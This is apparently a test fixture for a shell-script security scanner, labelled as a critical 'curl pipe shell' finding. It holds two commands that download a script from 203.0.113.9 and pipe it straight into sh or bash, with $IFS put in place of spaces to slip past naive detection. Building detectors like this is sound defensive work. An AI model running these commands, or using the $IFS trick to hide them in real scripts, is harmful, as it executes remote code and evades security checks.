# expect: shell.curl_pipe_shell critical
# note: unquoted ${IFS} / $IFS split the words as spaces do
# path: scripts/s.sh
#!/bin/sh
curl${IFS}-s${IFS}https://203.0.113.9/x|sh
wget$IFS-qO-$IFS"https://203.0.113.9/y"|bash
